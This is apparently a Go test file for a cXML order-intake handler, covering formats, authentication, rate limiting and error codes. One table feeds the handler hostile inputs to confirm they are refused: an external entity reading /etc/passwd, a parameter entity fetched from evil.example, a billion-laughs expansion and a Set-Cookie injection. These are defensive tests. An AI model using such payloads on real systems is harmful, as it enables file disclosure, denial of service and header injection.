// SPDX-License-Identifier: Apache-2.0

package cxml_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"unicode/utf16"

	"go.uber.org/zap"

	"ordergate/gateway"
	"ordergate/gateway/gatewaytest"
	"ordergate/gateway/strict"
	"ordergate/transports/portal/cxml"
	"ordergate/transports/transporttest"
)

func secretOf(t testing.TB, name string) strict.Secret {
	t.Helper()
	var s strict.Secret
	if err := s.UnmarshalText([]byte("${env:" + name + "}")); err != nil {
		t.Fatal(err)
	}
	return s
}

// resolve has every secret be "secret of NAME".
func resolve(s strict.Secret) (string, error) {
	name := strings.TrimSuffix(strings.TrimPrefix(s.String(), "${env:"), "}")
	if name == "GONE" {
		return "", errors.New("read secret: environment variable GONE is not set")
	}
	return "secret of " + name, nil
}

// lab is a handler with its peer.
type lab struct {
	t     testing.TB
	in    *transporttest.Intake
	clock *gatewaytest.Clock
	h     http.Handler

	mu    sync.Mutex
	audit []string
}

func newLab(t testing.TB, change ...func(*cxml.HandlerConfig)) *lab {
	t.Helper()
	l := &lab{t: t, in: transporttest.NewIntake(), clock: gatewaytest.NewClock()}
	d := cxml.NewDirectory([]*cxml.Account{
		{Config: cxml.Config{Domain: "NetworkId", Identity: "AN01", Secret: secretOf(t, "ACME"), Before: secretOf(t, "OLD"), To: []string{"US1"}}, Connection: "acme-cxml", Partner: "acme", Speaks: []string{"acme", "sub"}, Station: "main"},
		{Config: cxml.Config{Identity: "gone", Secret: secretOf(t, "GONE")}, Connection: "gone-cxml", Partner: "gone", Speaks: []string{"gone"}},
		{Config: cxml.Config{Identity: "try", Secret: secretOf(t, "TRY")}, Connection: "try-cxml", Partner: "try", Speaks: []string{"try"}, Test: true},
	})
	c := cxml.HandlerConfig{Directory: func() *cxml.Directory { return d }, Intake: l.in, Secret: resolve, Host: "us.example", Clock: l.clock, Log: zap.NewNop(),
		Audit: func(_ context.Context, action, detail string) {
			l.mu.Lock()
			defer l.mu.Unlock()
			l.audit = append(l.audit, action+" "+detail)
		}}
	for _, f := range change {
		f(&c)
	}
	h := cxml.NewHandler(c)
	mux := http.NewServeMux()
	mux.Handle(cxml.Path, h)
	mux.Handle(cxml.Path+"/{connection}", h)
	l.h = mux
	return l
}

// doc is a cXML document.
func doc(id, identity, secret, mode, inside string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.060/cXML.dtd">
<cXML payloadID="` + id + `" timestamp="2026-11-20T09:15:00-08:00" version="1.2.060" xml:lang="en-US"><Header>
<From><Credential domain="NetworkId"><Identity>AN-BUYER</Identity></Credential></From>
<To><Credential domain="NetworkId"><Identity>US1</Identity></Credential></To>
<Sender><Credential domain="NetworkId"><Identity>` + identity + `</Identity><SharedSecret>` + secret + `</SharedSecret></Credential><UserAgent>Buyer</UserAgent></Sender>
</Header><Request deploymentMode="` + mode + `">` + inside + `</Request></cXML>`
}

const orderInside = `<OrderRequest><OrderRequestHeader orderID="1" orderDate="2026-11-20" type="new"><Total><Money currency="USD">1</Money></Total></OrderRequestHeader></OrderRequest>`

func order(id string) string { return doc(id, "AN01", "secret of ACME", "production", orderInside) }

func (l *lab) post(path, contentType, body string) *httptest.ResponseRecorder {
	l.t.Helper()
	r := httptest.NewRequest(http.MethodPost, path, strings.NewReader(body))
	r.Header.Set("Content-Type", contentType)
	w := httptest.NewRecorder()
	l.h.ServeHTTP(w, r)
	return w
}

func TestOrder(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	first := l.post("/cxml", "text/xml", order("p1@acme"))
	if first.Code != 200 || !strings.Contains(first.Body.String(), `<Status code="200" text="OK"`) || first.Header().Get("Content-Type") != "text/xml; charset=UTF-8" {
		t.Fatalf("%d %s", first.Code, first.Body)
	}
	m := l.in.Taken()
	if len(m) != 1 || string(m[0].Payload) != order("p1@acme") || m[0].Envelope.Key != "p1@acme" || m[0].Envelope.Connection != "acme-cxml" || m[0].Envelope.Station != "main" ||
		strings.Join(m[0].Envelope.Partners, " ") != "acme sub" || m[0].Envelope.Test || m[0].Envelope.FileName != "p1@acme.xml" {
		t.Fatalf("%+v", m)
	}
	l.clock.Add(3600e9)
	if again := l.post("/cxml/acme-cxml", "application/xml", order("p1@acme")); again.Body.String() != first.Body.String() {
		t.Errorf("a repeat was answered by\n%s", again.Body)
	}
	if other := l.post("/cxml", "text/xml", strings.Replace(order("p1@acme"), "orderID=\"1\"", "orderID=\"2\"", 1)); other.Code != 200 || !strings.Contains(other.Body.String(), `code="409"`) {
		t.Errorf("%d %s", other.Code, other.Body)
	}
	if w := l.post("/cxml", "text/xml", doc("p2", "AN01", "secret of OLD", "test", orderInside)); !strings.Contains(w.Body.String(), `code="200"`) {
		t.Errorf("the secret before: %s", w.Body)
	}
	l.post("/cxml", "text/xml", doc("p3", "try", "secret of TRY", "production", orderInside))
	if m = l.in.Taken(); len(m) != 3 || !m[1].Envelope.Test || !m[2].Envelope.Test {
		t.Errorf("%+v", m)
	}
	if strings.Contains(first.Body.String(), "secret") {
		t.Errorf("the answer tells the secret: %s", first.Body)
	}
}

// TestShapes: the document comes in all the ways that systems send it.
func TestShapes(t *testing.T) {
	t.Parallel()
	o := order("p@acme")
	related := "--b\r\nContent-Type: text/xml\r\nContent-ID: <doc>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(o)) + "\r\n--b\r\nContent-Type: application/pdf\r\nContent-ID: <1>\r\n\r\n%PDF\r\n--b--\r\n"
	wide := append([]byte{0xFF, 0xFE}, utf16LE(strings.Replace(o, "UTF-8", "UTF-16", 1))...)
	for name, c := range map[string]struct{ typ, body, want string }{
		"text":       {"text/xml; charset=utf-8", o, o},
		"none":       {"", o, o},
		"related":    {`multipart/related; boundary=b; type="text/xml"; start="<doc>"`, related, o},
		"mixed":      {`multipart/mixed; boundary=b`, related, o},
		"urlencoded": {"application/x-www-form-urlencoded", "cxml-urlencoded=" + url.QueryEscape(o), o},
		"base64":     {"application/x-www-form-urlencoded", "cXML-base64=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(o))), o},
		"utf-16":     {"text/xml", string(wide), string(wide)},
		"latin-1":    {"text/xml", strings.Replace(strings.Replace(o, "UTF-8", "ISO-8859-1", 1), "Buyer", "B\xFCyer", 1), strings.Replace(strings.Replace(o, "UTF-8", "ISO-8859-1", 1), "Buyer", "B\xFCyer", 1)},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := newLab(t)
			w := l.post("/cxml", c.typ, c.body)
			m := l.in.Taken()
			if len(m) != 1 || string(m[0].Payload) != c.want {
				t.Errorf("%d messages: %s", len(m), w.Body)
			}
		})
	}
}

func utf16LE(s string) (out []byte) {
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// TestRefused: what is not taken has a status of its own, and nothing of it is kept.
func TestRefused(t *testing.T) {
	t.Parallel()
	o := order("p@acme")
	dtd := `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.060/cXML.dtd">`
	laughs := `<!DOCTYPE cXML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	for name, c := range map[string]struct {
		typ, body string
		http      int
		code      int
	}{
		"external entity":    {"text/xml", strings.Replace(strings.Replace(o, dtd, `<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, 1), "Buyer", "&x;", 1), 200, 406},
		"entity without dtd": {"text/xml", strings.Replace(o, "Buyer", "&x;", 1), 200, 406},
		"billion laughs":     {"text/xml", strings.Replace(strings.Replace(o, dtd, laughs, 1), "Buyer", "&c;", 1), 200, 406},
		"parameter entity":   {"text/xml", strings.Replace(o, dtd, `<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>`, 1), 200, 406},
		"no xml":             {"text/xml", "ISA*00*", 200, 406},
		"cut off":            {"text/xml", o[:len(o)-20], 200, 406},
		"two roots":          {"text/xml", o + o[strings.Index(o, "<cXML"):], 200, 406},
		"other root":         {"text/xml", "<Order/>", 200, 406},
		"crossed":            {"text/xml", strings.Replace(o, "</Header>", "</Heading>", 1), 200, 406},
		"deep":               {"text/xml", strings.Replace(o, orderInside, strings.Repeat("<a>", 300)+strings.Repeat("</a>", 300), 1), 200, 406},
		"empty":              {"text/xml", "", 200, 406},
		"pdf":                {"application/pdf", "%PDF", 200, 406},
		"bad type":           {"text/", o, 200, 406},
		"multipart":          {"multipart/related", o, 200, 406},
		"broken multipart":   {"multipart/related; boundary=b", "--b\r\n\r\n" + o, 200, 406},
		"other start":        {"multipart/related; boundary=b; start=\"<x>\"", "--b\r\n\r\n" + o + "\r\n--b--\r\n", 200, 406},
		"form":               {"application/x-www-form-urlencoded", "a=b", 200, 406},
		"bad base64":         {"application/x-www-form-urlencoded", "cxml-base64=%21", 200, 406},
		"charset":            {"text/xml", strings.Replace(o, "UTF-8", "EBCDIC-XX", 1), 200, 406},
		"no payloadID":       {"text/xml", strings.Replace(o, "payloadID", "payloadid", 1), 200, 400},
		"long payloadID":     {"text/xml", strings.Replace(o, "p@acme", strings.Repeat("p", 600), 1), 200, 400},
		"control characters": {"text/xml", strings.Replace(o, "p@acme", "p&#10;Set-Cookie: a=b", 1), 200, 400},
		"no sender":          {"text/xml", o[:strings.Index(o, "<Sender>")] + o[strings.Index(o, "</Header>"):], 200, 401},
		"wrong secret":       {"text/xml", strings.Replace(o, "secret of ACME", "wrong", 1), 200, 401},
		"no secret":          {"text/xml", strings.Replace(o, "<SharedSecret>secret of ACME</SharedSecret>", "", 1), 200, 401},
		"another's secret":   {"text/xml", strings.Replace(o, "secret of ACME", "secret of TRY", 1), 200, 401},
		"other domain":       {"text/xml", strings.Replace(o, `<Credential domain="NetworkId"><Identity>AN01`, `<Credential domain="DUNS"><Identity>AN01`, 1), 200, 401},
		"unknown sender":     {"text/xml", strings.Replace(o, "AN01", "AN99", 1), 200, 401},
		"not for us":         {"text/xml", strings.Replace(o, "US1", "US2", 1), 200, 400},
		"punch out":          {"text/xml", doc("p", "AN01", "secret of ACME", "production", `<PunchOutSetupRequest operation="create"/>`), 200, 450},
		"confirmation":       {"text/xml", doc("p", "AN01", "secret of ACME", "production", `<ConfirmationRequest/>`), 200, 450},
		"message":            {"text/xml", strings.ReplaceAll(strings.ReplaceAll(o, "<Request ", "<Message "), "</Request>", "</Message>"), 200, 450},
		"our secret is gone": {"text/xml", doc("p", "gone", "secret of GONE", "production", orderInside), 503, 560},
		"too large":          {"text/xml", strings.Replace(o, "Buyer", strings.Repeat("B", 200<<10), 1), 200, 400},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := newLab(t, func(c *cxml.HandlerConfig) { c.MaxBytes = 100 << 10 })
			w := l.post("/cxml", c.typ, c.body)
			if w.Code != c.http || !strings.Contains(w.Body.String(), fmt.Sprintf(`<Status code="%d"`, c.code)) {
				t.Errorf("%d %s", w.Code, w.Body)
			}
			if n := len(l.in.Taken()); n != 0 || strings.Contains(w.Body.String(), "root:") || strings.Contains(w.Body.String(), "secret of") {
				t.Errorf("%d taken; %s", n, w.Body)
			}
		})
	}
}

// A tag that is all attributes is refused before it is kept: nobody knows yet who sends
// it. Long texts are none.
func TestLongTag(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	for _, body := range []string{"<cXML " + strings.Repeat(`a="" `, 1<<16) + ">", "<cXML a='" + strings.Repeat(`>`, 1<<18) + "'/>", "<cXML>x<" + strings.Repeat("x", 1<<18) + ">"} {
		if w := l.post("/cxml", "text/xml", body); w.Code != 200 || !strings.Contains(w.Body.String(), `<Status code="406"`) || !strings.Contains(w.Body.String(), "a tag is longer than 262144 bytes") {
			t.Errorf("%d %s", w.Code, w.Body)
		}
	}
	o := strings.Replace(order("p@acme"), "</Header>", "</Header><!-- <a "+strings.Repeat("'x ", 1<<18)+"--><![CDATA[<"+strings.Repeat("x", 1<<18)+"]]>", 1)
	if w := l.post("/cxml", "text/xml", o); !strings.Contains(w.Body.String(), `<Status code="200"`) {
		t.Errorf("%d %s", w.Code, w.Body)
	}
}

// TestOther: what is no order.
func TestOther(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	w := l.post("/cxml/acme-cxml", "text/xml", doc("p", "AN01", "secret of ACME", "production", `<ProfileRequest/>`))
	if !strings.Contains(w.Body.String(), `<Transaction requestName="OrderRequest"><URL>https://example.com/cxml/acme-cxml</URL>`) || !strings.Contains(w.Body.String(), `code="200"`) {
		t.Errorf("%s", w.Body)
	}
	r := httptest.NewRecorder()
	l.h.ServeHTTP(r, httptest.NewRequest(http.MethodGet, "/cxml", nil))
	if r.Code != http.StatusMethodNotAllowed || r.Header().Get("Allow") != "POST" {
		t.Errorf("%d", r.Code)
	}
	if w := l.post("/cxml/try-cxml", "text/xml", order("p")); !strings.Contains(w.Body.String(), `code="401"`) {
		t.Errorf("one partner by the address of another: %s", w.Body)
	}
	if w := l.post("/cxml", "text/xml", doc("p", "AN01", "secret of ACME", "production", "")); !strings.Contains(w.Body.String(), `code="400"`) {
		t.Errorf("%s", w.Body)
	}
}

// TestGuessing: after ten wrong secrets an address has to wait, also with the right
// one; the audit trail has ten lines of it. Another address is not touched.
func TestGuessing(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	wrong := strings.Replace(order("p"), "secret of ACME", "guess", 1)
	for range 10_000 {
		l.post("/cxml", "text/xml", wrong)
	}
	if w := l.post("/cxml", "text/xml", order("p")); w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") == "" || !strings.Contains(w.Body.String(), `code="560"`) {
		t.Errorf("%d %s", w.Code, w.Body)
	}
	if len(l.audit) != 10 || strings.Contains(strings.Join(l.audit, " "), "guess") || len(l.in.Taken()) != 0 {
		t.Errorf("%d audit lines: %q", len(l.audit), l.audit)
	}
	r := httptest.NewRequest(http.MethodPost, "/cxml", strings.NewReader(order("p")))
	r.RemoteAddr = "203.0.113.9:1234"
	w := httptest.NewRecorder()
	l.h.ServeHTTP(w, r)
	if w.Code != 200 {
		t.Errorf("%d %s", w.Code, w.Body)
	}
	l.clock.Add(600e9)
	if w := l.post("/cxml", "text/xml", order("q")); w.Code != 200 || len(l.in.Taken()) != 2 {
		t.Errorf("%d %s", w.Code, w.Body)
	}
}

func TestKinds(t *testing.T) {
	t.Parallel()
	for kind, want := range map[gateway.Kind]string{gateway.Transient: "560", gateway.Invalid: "400", gateway.Denied: "401", gateway.NotFound: "400", gateway.Conflict: "409", gateway.Internal: "560", "": "560"} {
		l := newLab(t)
		l.in.OnStage = func(int, gateway.Envelope) error {
			return &gateway.Error{Kind: kind, Err: errors.New("/srv/secret")}
		}
		w := l.post("/cxml", "text/xml", order("p"))
		if !strings.Contains(w.Body.String(), `code="`+want+`"`) || strings.Contains(w.Body.String(), "/srv") || (w.Code == http.StatusServiceUnavailable) != strings.HasPrefix(want, "5") {
			t.Errorf("%s: %d %s", kind, w.Code, w.Body)
		}
	}
}

// TestBroken: a body that breaks off is to be sent again.
func TestBroken(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	r := httptest.NewRequest(http.MethodPost, "/cxml", io.MultiReader(bytes.NewReader([]byte("<cXML")), failing{}))
	w := httptest.NewRecorder()
	l.h.ServeHTTP(w, r)
	if w.Code != http.StatusServiceUnavailable || !strings.Contains(w.Body.String(), `code="560"`) {
		t.Errorf("%d %s", w.Code, w.Body)
	}
}

type failing struct{}

func (failing) Read([]byte) (int, error) { return 0, errors.New("connection reset") }
